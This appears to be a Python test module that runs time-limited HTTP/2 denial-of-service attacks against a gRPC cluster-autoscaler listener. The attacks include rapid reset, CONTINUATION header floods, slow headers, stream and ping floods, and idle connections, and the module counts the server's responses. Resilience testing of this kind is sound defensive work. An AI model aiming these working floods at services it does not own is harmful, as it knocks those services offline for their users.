"""Attacks on one listener: each runs for a bounded time with a bounded number of connections and streams."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from tests.attacks import frames

__all__ = ["ATTACKS", "METHOD", "Http2", "Target", "Toll", "attack", "flood"]

METHOD = "/clusterautoscaler.cloudprovider.v1.externalgrpc.CloudProvider/NodeGroups"
_BATCH = 100  # streams in one write


@dataclass(frozen=True, kw_only=True)
class Target:
    """Whom to attack, for how long, and how much at most."""

    host: str
    port: int
    ca: Path | None = None
    cert: Path | None = None
    key: Path | None = None
    seconds: float = 10.0
    connections: int = 1
    streams: int = 1_000_000  # of one connection

    def context(self) -> ssl.SSLContext | None:
        if self.ca is None:
            return None
        context = ssl.create_default_context(cafile=str(self.ca))
        context.check_hostname = False
        context.set_alpn_protocols(["h2"])
        if self.cert is not None and self.key is not None:
            context.load_cert_chain(self.cert, self.key)
        return context


@dataclass
class Toll:
    """What an attack could do."""

    connected: int = 0
    refused: int = 0  # connections that were closed, or not taken
    streams: int = 0
    answered: int = 0  # streams that ended with headers
    reset: int = 0  # streams that the server reset
    errors: list[str] = field(default_factory=list)


class Http2:
    """A connection that has sent its preface, answers SETTINGS and PING, and counts what else comes."""

    def __init__(self, target: Target, toll: Toll) -> None:
        self._target = target
        self._toll = toll
        self._reading: asyncio.Task[None] | None = None
        self.last_stream = -1
        self.is_open = True
        self.headers_of: dict[int, bytes] = {}
        self._greeted = asyncio.Event()
        self.in_headers = False  # then nothing else may be sent

    async def open(self) -> None:
        context = self._target.context()
        self._reader, self._writer = await asyncio.open_connection(
            self._target.host, self._target.port, ssl=context, limit=1 << 20
        )
        self._toll.connected += 1
        await self.write(frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0))
        self._reading = asyncio.create_task(self._read())
        async with asyncio.timeout(10):
            await self._greeted.wait()

    def next_stream(self) -> int:
        self.last_stream += 2
        self._toll.streams += 1
        return self.last_stream

    async def write(self, payload: bytes) -> None:
        self._writer.write(payload)
        await self._writer.drain()

    async def ended(self, until: float) -> None:
        """Waits until the server has closed it, or until that time."""
        assert self._reading is not None
        await asyncio.wait([self._reading], timeout=max(0.0, until - time.monotonic()))

    async def close(self) -> None:
        if self._reading is not None:
            self._reading.cancel()
        with contextlib.suppress(OSError, AttributeError):
            self._writer.transport.abort()

    async def _read(self) -> None:
        buffer = bytearray()
        with contextlib.suppress(OSError):
            while some := await self._reader.read(1 << 16):
                buffer += some
                for kind, flags, stream, payload in frames.split(buffer):
                    if kind == frames.HEADERS:
                        self._toll.answered += 1
                        self.headers_of[stream] = self.headers_of.get(stream, b"") + payload
                        if len(self.headers_of) > 1000:
                            self.headers_of.clear()
                    elif kind == frames.RST_STREAM:
                        self._toll.reset += 1
                    elif kind in (frames.SETTINGS, frames.PING) and not flags & frames.ACK:
                        answer = payload if kind == frames.PING else b""
                        if not self.in_headers:
                            self._writer.write(frames.frame(kind, frames.ACK, 0, answer))
                        self._greeted.set()
        self.is_open = False
        self._greeted.set()


Body = Callable[[Target, Toll, float], Awaitable[None]]


@contextlib.asynccontextmanager
async def _connection(target: Target, toll: Toll) -> AsyncIterator[Http2]:
    connection = Http2(target, toll)
    try:
        await connection.open()
        yield connection
    finally:
        await connection.close()


async def _flood(target: Target, toll: Toll, until: float, make: Callable[[int], bytes]) -> None:
    """Opens stream after stream; connects again when it is cut off."""
    while time.monotonic() < until:
        async with _connection(target, toll) as connection:
            while connection.is_open and time.monotonic() < until and connection.last_stream < 2 * target.streams:
                await connection.write(b"".join(make(connection.next_stream()) for _ in range(_BATCH)))
                await asyncio.sleep(0)
            await connection.ended(until)
        await asyncio.sleep(0.01)


async def open_streams(target: Target, toll: Toll, until: float) -> None:
    """Calls whose bodies never come."""
    block = frames.header_block(METHOD)
    await _flood(target, toll, until, lambda stream: frames.headers(stream, block))


async def rapid_reset(target: Target, toll: Toll, until: float) -> None:
    """Calls that are cancelled at once."""
    block = frames.header_block(METHOD)
    await _flood(target, toll, until, lambda stream: frames.headers(stream, block) + frames.reset(stream))


async def whole_calls(target: Target, toll: Toll, until: float) -> None:
    """Calls with bodies, as fast as they can be written."""
    block = frames.header_block(METHOD)
    body = b"\0\0\0\0\0"
    await _flood(
        target,
        toll,
        until,
        lambda stream: frames.headers(stream, block) + frames.frame(frames.DATA, frames.END_STREAM, stream, body),
    )


async def large_messages(target: Target, toll: Toll, until: float) -> None:
    """Messages that say to be long, sent for as long as the server takes them."""
    block = frames.header_block(METHOD)
    start = b"\0" + (4 * 1024 * 1024 - 5).to_bytes(4, "big")

    def make(stream: int) -> bytes:
        return frames.headers(stream, block) + frames.data(stream, start + b"\0" * 8000)

    await _flood(target, toll, until, make)


async def pings(target: Target, toll: Toll, until: float) -> None:
    """Pings without end."""
    await _flood(target, toll, until, lambda _: frames.ping())


async def large_headers(target: Target, toll: Toll, until: float) -> None:
    """A header block that goes on and on, in CONTINUATION frames."""
    start = frames.header_block(METHOD)
    piece = b"".join(b"\x00" + b"\x07" + f"x{i:06d}".encode() + b"\x7f\x81\x1f" + b"y" * 4096 for i in range(3))
    while time.monotonic() < until:
        async with _connection(target, toll) as connection:
            stream = connection.next_stream()
            connection.in_headers = True
            await connection.write(frames.headers(stream, start, ends_headers=False))
            while connection.is_open and time.monotonic() < until:
                await connection.write(frames.continuation(stream, piece))
                await asyncio.sleep(0)
        await asyncio.sleep(0.01)


async def slow_headers(target: Target, toll: Toll, until: float) -> None:
    """A header block that comes byte by byte."""
    start = frames.header_block(METHOD)
    async with _connection(target, toll) as connection:
        stream = connection.next_stream()
        connection.in_headers = True
        await connection.write(frames.headers(stream, start, ends_headers=False))
        while connection.is_open and time.monotonic() < until:
            await connection.write(frames.continuation(stream, b"\x82"))
            await asyncio.sleep(0.5)


async def idle_after_handshake(target: Target, toll: Toll, until: float) -> None:
    """A connection that has shaken hands, and then says nothing."""
    async with _connection(target, toll) as connection:
        await connection.ended(until)
    if not connection.is_open:
        toll.refused += 1


async def silent(target: Target, toll: Toll, until: float) -> None:
    """A TCP connection on which nothing is ever said; taken up again when it is cut off."""
    while time.monotonic() < until:
        reader, writer = await asyncio.open_connection(target.host, target.port)
        toll.connected += 1
        try:
            async with asyncio.timeout(max(0.0, until - time.monotonic())):
                await reader.read()
            toll.refused += 1
        except TimeoutError:
            return
        finally:
            writer.transport.abort()
        await asyncio.sleep(0.1)


ATTACKS: Mapping[str, Body] = {
    "open-streams": open_streams,
    "rapid-reset": rapid_reset,
    "whole-calls": whole_calls,
    "large-messages": large_messages,
    "large-headers": large_headers,
    "slow-headers": slow_headers,
    "pings": pings,
    "idle-after-handshake": idle_after_handshake,
    "silent": silent,
}


async def flood(connection: Http2, block: bytes) -> None:
    """Opens streams without bodies until the server closes the connection."""
    async with asyncio.timeout(30):
        while connection.is_open:
            with contextlib.suppress(OSError):
                await connection.write(b"".join(frames.headers(connection.next_stream(), block) for _ in range(50)))
            await asyncio.sleep(0.05)


async def attack(kind: str, target: Target) -> Toll:
    """Runs one attack on all of its connections at once."""
    toll = Toll()
    until = time.monotonic() + target.seconds

    async def one() -> None:
        while time.monotonic() < until:
            try:
                await ATTACKS[kind](target, toll, until)
            except OSError as error:
                toll.refused += 1
                if len(toll.errors) < 5:
                    toll.errors.append(repr(error))
                await asyncio.sleep(0.1)

    await asyncio.gather(*(one() for _ in range(target.connections)))
    return toll
